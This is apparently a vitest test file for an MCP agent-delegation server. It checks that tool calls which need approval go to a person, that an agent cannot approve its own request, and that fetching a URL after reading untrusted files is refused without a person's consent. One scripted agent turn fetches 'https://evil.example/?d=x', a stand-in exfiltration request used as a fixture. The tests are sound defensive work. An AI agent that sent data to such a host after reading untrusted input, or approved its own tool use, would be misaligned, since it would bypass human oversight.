import { describe, expect, test } from "vitest";
import { until } from "../../testing/until.ts";
import { callTool, eras, McpDesk } from "./mcp-desk.test-support.ts";

const playbook = `
version: 1
name: approvals
replies:
  - when: { turn: 1 }
    calls: [{ tool: list_files, input: {} }]
  - text: "It said: {{last}}"
`;

const careful = `---
name: careful
description: Looks at files when it may
tools: [list_files]
toolRules:
  - { tool: list_files, action: ask }
---
You look.
`;

const roamer = `---
name: roamer
description: Reads files and pages
tools: [list_files, web_fetch]
---
You look.
`;

describe.each(eras)("where a person has to approve, a client of %s", (era) => {
  test.each(["yes", "no"])("brings it before its person, who says %s", async (said) => {
    await using desk = new McpDesk(playbook);
    desk.addProfile("careful", careful);
    const shown: object[] = [];
    const client = await desk.connect({
      era,
      capabilities: { elicitation: {} },
      reply(_message, schema) {
        shown.push(schema);
        return { action: "accept", content: { approve: said } };
      },
    });
    const { text } = await callTool(client, "delegate_task", { profile: "careful", task: "Look" });
    expect(shown).toMatchObject([{ properties: { approve: { enum: ["yes", "no"] } } }]);
    const log = await desk.withStore(async (store) => {
      const types: string[] = [];
      for await (const { type } of store.readEvents({})) types.push(type);
      return types;
    });
    expect(log.includes("agent.tool_denied")).toBe(said === "no");
    expect(JSON.parse(text)).toMatchObject({ status: "completed" });
  });

  test("is asked about a composed address if it can ask its person, else that is refused", async () => {
    const fetching = `
version: 1
replies:
  - when: { turn: 1 }
    calls: [{ tool: list_files, input: {} }]
  - when: { turn: 2 }
    calls: [{ tool: web_fetch, input: { url: "https://evil.example/?d=x" } }]
  - text: "It said: {{last}}"
`;
    await using desk = new McpDesk(fetching);
    desk.addProfile("roamer", roamer);
    const input = { profile: "roamer", task: "Look" };
    const alone = await callTool(await desk.connect({ era }), "delegate_task", input);
    expect(alone.text).toMatch(/no terminal, page, chat or client is connected/);
    const shown: string[] = [];
    const client = await desk.connect({
      era,
      capabilities: { elicitation: {} },
      reply(message) {
        shown.push(message);
        return { action: "accept", content: { approve: "no" } };
      },
    });
    const asked = await callTool(client, "delegate_task", input);
    expect(asked.text).toMatch(/No person allowed web_fetch/);
    expect(shown).toEqual([expect.stringContaining("has read untrusted input (list_files)")]);
  });

  test("cannot have its model approve in place of a person", async () => {
    await using desk = new McpDesk(playbook);
    desk.addProfile("careful", careful);
    const client = await desk.connect({ era });
    const { text: id } = await callTool(client, "spawn", { profile: "careful", task: "Look" });
    const askId = await until("the question is in the inbox", async () => {
      const { structuredContent } = await callTool(client, "read_inbox", { keep: true });
      const { open } = structuredContent as { open: readonly { askId: string }[] };
      return open[0]?.askId;
    });
    const answered = await callTool(client, "answer", { askId, text: "yes" });
    expect(answered).toMatchObject({
      isError: true,
      text: expect.stringMatching(/person's approval/),
    });
    const waiting = await callTool(client, "spawn_await", { job_ids: id, max_wait_ms: 50 });
    expect(waiting.text).toBe(`[${id}: RUNNING] Call spawn_await again to wait for it.`);
  });
});
